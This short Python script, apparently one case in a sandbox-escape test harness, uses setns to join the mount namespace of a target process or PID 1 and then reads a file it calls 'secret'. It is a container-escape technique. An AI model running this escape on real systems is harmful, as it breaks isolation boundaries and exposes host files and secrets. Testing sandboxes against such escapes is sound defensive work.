import os

from attempt import attempt, call, first

CLONE_NEWNS = 0x00020000


def join_mounts(path, pid):
    first([lambda one=one: enter(f"/proc/{one}/ns/mnt") for one in (pid, "1")])
    with open(path) as secret:
        return secret.read()


def enter(path):
    call("setns", os.open(path, os.O_RDONLY), CLONE_NEWNS)
    return path


attempt(join_mounts)
